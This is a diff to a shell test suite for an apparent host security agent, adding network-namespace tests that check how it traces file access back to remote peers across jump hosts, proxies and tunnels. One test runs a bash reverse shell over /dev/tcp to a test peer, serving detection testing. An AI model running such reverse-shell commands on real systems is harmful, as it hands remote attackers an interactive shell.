@@ -2,9 +2,31 @@
 # SPDX-License-Identifier: Apache-2.0
 #
 # Goal: whoever acts for a connected peer is remote, with that peer, whatever became of the process
-# in between; a server that reads a recording itself is a service.
+# in between; a server that reads a recording itself is a service. A connection that begins and ends
+# on the hub leads to whoever is behind the process that made it.
+#
+# The peer sits in a network namespace of its own, the "office".
 
 load host.bash
+
+HUB=10.77.3.1
+OFFICE=10.77.3.2
+
+setup_file() {
+	((EUID == 0)) || return 0
+	ip netns add cw-office
+	ip link add cw-hub type veth peer name office netns cw-office
+	ip address add $HUB/24 dev cw-hub
+	ip link set cw-hub up
+	ip -n cw-office address add $OFFICE/24 dev office
+	ip -n cw-office link set office up
+	ip -n cw-office link set lo up
+}
+
+teardown_file() {
+	ip netns delete cw-office 2>/dev/null || true
+	ip link delete cw-hub 2>/dev/null || true
+}
 
 setup() {
 	host_setup
@@ -16,15 +38,37 @@ teardown() { host_teardown; }
 
 # serve KIND COMMAND…: sets PORT and SERVER.
 serve() {
-	background "$ACTOR" serve "$@"
+	background env ACTOR_ADDRESS=$HUB "$ACTOR" serve "$@"
 	SERVER=$BG_PID
 	PORT=$(first_line "$BG_OUT")
 }
 
-# call [stay]: a client, sets PEER.
+# serve_inside KIND COMMAND…: the same for those on the hub alone.
+serve_inside() {
+	background "$ACTOR" serve "$@"
+	SERVER=$BG_PID
+	INSIDE=$(first_line "$BG_OUT")
+}
+
+# serve_office LINE: somebody there waits for a call and sends LINE; sets PORT.
+serve_office() {
+	background in_office $OFFICE "$ACTOR" serve send "$1"
+	PORT=$(first_line "$BG_OUT")
+}
+
+in_office() {
+	ip netns exec cw-office env ACTOR_ADDRESS="$1" "${@:2}"
+}
+
+# call [stay]: a client in the office, sets PEER.
 call() {
-	background "$ACTOR" connect "$PORT" "$@"
-	PEER=127.0.0.1:$(first_line "$BG_OUT")
+	background in_office $HUB "$ACTOR" connect "$PORT" "$@"
+	PEER=$OFFICE:$(first_line "$BG_OUT")
+}
+
+hopped_by() {
+	is ".origin.hop.exe == \"$ACTOR\" and .origin.hop.login_uid == null and
+		(.origin.hop.pid | type == \"number\")"
 }
 
 is_remote() {
@@ -91,10 +135,10 @@ is_remote() {
 
 @test "a reverse shell: remote and outbound, with its peer" {
 	host_start
-	serve send "cat $CLIP; exit"
-	background bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"
+	serve_office "cat $CLIP; exit"
+	background bash -c "bash -i >& /dev/tcp/$OFFICE/$PORT 0>&1"
 	expect '.kind == "open" and .process.comm == "cat"'
-	is ".origin.type == \"remote\" and .origin.peer == \"127.0.0.1:$PORT\""
+	is ".origin.type == \"remote\" and .origin.peer == \"$OFFICE:$PORT\""
 	is '.origin.outbound == true and .verdict.class == "remote"'
 }
 
@@ -115,4 +159,71 @@ is_remote() {
 	cat "$CLIP"
 	expect '.kind == "open" and .process.comm == "cat"'
 	is '.origin.type == "service" and .origin.peer == null and .origin.seeded == false'
+}
+
+@test "a jump host: what connects on over loopback leads to the peer behind it" {
+	host_start
+	serve_inside fork sh -c "cat $CLIP; :"
+	serve fork env -u ACTOR_ADDRESS "$ACTOR" connect "$INSIDE"
+	call
+	expect '.kind == "open" and .process.comm == "cat"'
+	is_remote
+	hopped_by
+}
+
+@test "two hops over loopback: the first peer, and the first process" {
+	host_start
+	serve_inside stdio sh -c "cat $CLIP; :"
+	serve_inside fork "$ACTOR" connect "$INSIDE"
+	serve fork env -u ACTOR_ADDRESS "$ACTOR" connect "$INSIDE"
+	call
+	expect '.kind == "open" and .process.comm == "cat"'
+	is_remote
+	hopped_by
+	is '.process.ancestors | map(.pid) | contains(['"$BG_PID"']) | not'
+}
+
+@test "a proxy whose thread serves a peer: what it reaches is that peer's" {
+	host_start
+	serve_inside fork cat "$CLIP"
+	serve thread env -u ACTOR_ADDRESS "$ACTOR" connect "$INSIDE"
+	call
+	expect '.kind == "open" and .process.comm == "cat"'
+	is_remote
+	hopped_by
+}
+
+@test "a tunnel that was opened from the hub: remote and outbound, with its far end" {
+	host_start
+	serve_inside fork cat "$CLIP"
+	serve_office go
+	background env ACTOR_ADDRESS=$OFFICE "$ACTOR" tunnel "$PORT" "$INSIDE"
+	expect '.kind == "open" and .process.comm == "cat"'
+	is ".origin.type == \"remote\" and .origin.peer == \"$OFFICE:$PORT\""
+	is '.origin.outbound == true and .verdict.class == "remote"'
+	hopped_by
+}
+
+@test "a service that connects to another over loopback: nobody is remote" {
+	host_start
+	serve_inside fork cat "$CLIP"
+	background "$ACTOR" connect "$INSIDE"
+	expect '.kind == "open" and .process.comm == "cat"'
+	is '.origin.type == "service" and .verdict.class == "service"'
+	is '.origin.peer | startswith("127.0.0.1:")'
+	hopped_by
+}
+
+@test "a jump that was there before the agent leads to the peer, too" {
+	mkfifo "$W/go"
+	serve_inside stdio sh -c "read line <$W/go; cat $CLIP"
+	serve stdio env -u ACTOR_ADDRESS "$ACTOR" connect "$INSIDE"
+	call
+	eventually pgrep -P "$(pgrep -f "serve stdio sh -c")" sh
+	host_start
+	echo >"$W/go"
+	expect '.kind == "open" and .process.comm == "cat"'
+	is_remote
+	is '.origin.seeded == true'
+	hopped_by
 }
